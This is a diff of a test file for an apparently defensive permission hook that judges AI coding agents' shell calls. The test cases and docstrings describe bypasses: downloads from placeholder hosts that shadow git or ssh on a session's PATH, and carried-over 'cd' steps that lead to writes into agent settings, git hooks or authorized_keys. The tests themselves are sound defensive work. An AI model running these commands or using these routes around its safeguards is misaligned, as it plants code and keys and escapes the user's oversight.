@@ -20,7 +20,7 @@ from clearance.patchtext import links, targets
 
 from .rounds import allowed as _allowed
 from .rounds import ids as _ids
-from .rounds import json_key as _json_key
+from .rounds import in_session
 from .rounds import not_allowed as _not_allowed
 
 P = "/home/ana/webapp"
@@ -405,24 +405,36 @@ class TestPersistingSessionVariables:
         _allowed(example)
 
 
-class TestPersistingShellSessionOpen:
-    """Class (open): a PATH folder of the project that the agent may fill later by a download (`export PATH=$PWD/.bin:$PATH`,
-    then `curl -so .bin/git URL`: a download into the project is no write clearance judges for its code). An .envrc's
-    `PATH_add bin` is allowed on purpose (threat model, round 2); in a persisting session the same calibration holds
-    for now. (A function defined and called on the same line, and command_not_found_handle, open at first, are read
-    now: Script.defined.)"""
+class TestPersistingSessionPathFolder:
+    """Class: a project folder put first on a persisting session's PATH (`export PATH=$PWD/.bin:$PATH`), filled by a
+    later call under a command's name (`curl -so .bin/git URL`): every later `git` of the session runs the download. An
+    .envrc's `PATH_add bin` stays allowed (threat model, round 2), and so does the export itself. Closed (fix18a): the
+    folders a persisting shell's PATH is left with first are noted in the session's record (provenance ``w``, PATH_KEY),
+    and a write of a command's name into one -- this call's or a later one's, by any tool -- is judged as a write into a
+    bin folder on the user's PATH (fs.write-installed-code, shell/persist.session_path_programs)."""
 
     CASES: ClassVar[list[Any]] = [
-        _session("export PATH=$PWD/.bin:$PATH"),
-        _session("export PATH=./node_modules/.hidden:$PATH"),
+        ("export PATH=$PWD/.bin:$PATH", "curl -so .bin/git https://x.example/g"),
+        ("export PATH=./node_modules/.hidden:$PATH", "cp /tmp/x node_modules/.hidden/ls"),
+        ("export PATH=$PWD/bin:$PATH", "cd src", "curl -o ../bin/npm https://e.example/n"),
+        ("export PATH=$PWD/.bin:$PATH", {"tool_name": "Write", "tool_input": {"file_path": P + "/.bin/python3", "content": "x"}}),
+        ("export PATH=$PWD/tools:$PATH; wget -qO tools/ssh https://e.example/m",),
     ]
-    GAPS: ClassVar[dict[str, str]] = {
-        _json_key(c): "unfinished (round 17a): a PATH folder of the project in a persisting session, filled later by a download" for c in CASES
-    }
+    ORDINARY: ClassVar[list[Any]] = [
+        ("export PATH=$PWD/.bin:$PATH",),
+        ("export PATH=$PWD/bin:$PATH", "go build -o bin/mytool ./cmd/mytool"),
+        ("export PATH=$PWD/bin:$PATH", "echo x > bin/README"),
+        ("curl -so .bin/git https://x.example/g",),
+    ]
 
-    @pytest.mark.parametrize("example", CASES, ids=_ids(CASES))
-    def test_not_allowed(self, example: Any) -> None:
-        _not_allowed(example, self.GAPS)
+    @pytest.mark.parametrize("calls", CASES, ids=_ids(CASES))
+    def test_not_allowed(self, calls: Any) -> None:
+        got = in_session(*calls)[-1]
+        assert got.decision in ("ask", "deny"), got.reason
+
+    @pytest.mark.parametrize("calls", ORDINARY, ids=_ids(ORDINARY))
+    def test_ordinary_allowed(self, calls: Any) -> None:
+        assert [d.decision for d in in_session(*calls)] == ["allow"] * len(calls)
 
 
 def test_a_patch_too_large_to_read_whole_is_read_as_patch_reads_it(tmp_path: Any) -> None:
@@ -441,30 +453,59 @@ def test_a_patch_too_large_to_read_whole_is_read_as_patch_reads_it(tmp_path: Any
         assert treelist.list_tree(str(big), "patch")[1]
 
 
+def _oneshot_event(command: str) -> dict[str, Any]:
+    return {"tool_name": "Bash", "tool_input": {"command": command}}
+
+
 class TestPersistingSessionDirectory:
-    """Class (open): the working directory a persisting session is left in. In Copilot CLI's bash session a `cd` stays
-    for the next call, while the hook resolves that call's relative paths against the event's `cwd` (Copilot's own
-    folder, the project): `cd ~/.copilot` (allowed), then `echo '{}' > config.json` is judged as the project's
-    config.json. Whether the event's `cwd` follows the shell's is not documented (docs.github.com: "Current working
-    directory"); not run here. A top-level `cd` outside the project or into a protected folder in such a session would
-    be asked, or the session's directory kept between calls."""
+    """Class: the working directory a persisting session is left in. In Copilot CLI's bash session a `cd` stays for the
+    next call, while the hook resolved that call's relative paths against the event's `cwd` (the project): `cd
+    ~/.copilot`, then `echo '{}' > config.json` was judged as the project's config.json. Closed (fix18a): the folder a
+    line leaves its shell in (shell.parse.Script.cwd: cd, pushd/popd with the line's own stack, `builtin cd`, `command
+    cd`) is noted in the session's record (provenance ``w``, per bash session) and the shell's next call starts there;
+    a cd that cannot be followed (a variable, eval'd text, popd past the line's pushd, a line that was asked and may or
+    may not have run) leaves it unknown, and a later relative write or delete is asked (shell/persist.unplaced_changes)."""
 
     CASES: ClassVar[list[Any]] = [
-        _session("cd ~/.copilot"),
-        _session("cd ~/.config/clearance"),
-        _session("cd .git/hooks"),
-        _session("pushd ~/.claude"),
+        ("cd ~/.copilot", "echo '{}' > config.json"),
+        ("cd ~/.config/clearance", "rm -f policy.toml"),
+        ("cd .git/hooks", "cp /tmp/x pre-commit"),
+        ("pushd ~/.claude", "echo x > settings.json"),
+        ("builtin cd ~/.claude", "tee settings.json < /tmp/s"),
+        ("cd ~", "cd .ssh", "echo k >> authorized_keys"),
+        ("cd ~/.claude", "cd ..", "rm -rf .claude"),
+        ("eval cd ~/.claude", "echo x > settings.json"),
+        ("cd $TARGET", "echo x > notes.txt"),
+        ("popd", "echo x > settings.json"),
+        ("cd ~/.claude && npx some-tool", "echo x > settings.json"),
     ]
-    GAPS: ClassVar[dict[str, str]] = {_json_key(c): "unfinished (round 17a): a persisting session's directory is not followed into later calls" for c in CASES}
-    ORDINARY: ClassVar[list[Any]] = [_session("cd src"), _session("cd frontend && npm test"), _oneshot("cd ~/.copilot")]
+    ORDINARY: ClassVar[list[Any]] = [
+        ("cd src", "echo x > app.py"),
+        ("cd frontend && npm test", "echo x > notes.txt"),
+        ("cd ~/.claude", "cd " + P, "echo x > settings.json"),
+        ("cd /tmp", "echo x > scratch.txt"),
+        ("pushd src", "popd", "echo x > notes.txt"),
+        ("cd ~/.claude", "cat settings.json"),
+        (_oneshot_event("cd ~/.copilot"), _oneshot_event("echo '{}' > config.json")),
+    ]
 
-    @pytest.mark.parametrize("example", CASES, ids=_ids(CASES))
-    def test_not_allowed(self, example: Any) -> None:
-        _not_allowed(example, self.GAPS)
+    @pytest.mark.parametrize("calls", CASES, ids=_ids(CASES))
+    def test_not_allowed(self, calls: Any) -> None:
+        got = in_session(*calls)[-1]
+        assert got.decision in ("ask", "deny"), got.reason
 
-    @pytest.mark.parametrize("example", ORDINARY, ids=_ids(ORDINARY))
-    def test_ordinary_allowed(self, example: Any) -> None:
-        _allowed(example)
+    @pytest.mark.parametrize("calls", ORDINARY, ids=_ids(ORDINARY))
+    def test_ordinary_allowed(self, calls: Any) -> None:
+        got = in_session(*calls)
+        assert [d.decision for d in got] == ["allow"] * len(calls), [d.reason for d in got]
+
+    def test_each_bash_session_keeps_its_own_folder(self) -> None:
+        ev = [
+            {"tool_name": "Bash", "tool_input": {"command": c, "tty": True, "persists": True, "shell": s}}
+            for c, s in (("cd ~/.claude", "a"), ("echo x > settings.json", "b"))
+        ]
+        assert [d.decision for d in in_session(*ev)] == ["allow", "allow"]
+        assert in_session("cd ~/.claude", "echo x > settings.json", shell="a")[-1].decision == "deny"
 
 
 def test_only_a_session_that_outlives_the_call_keeps_what_the_line_exports() -> None:
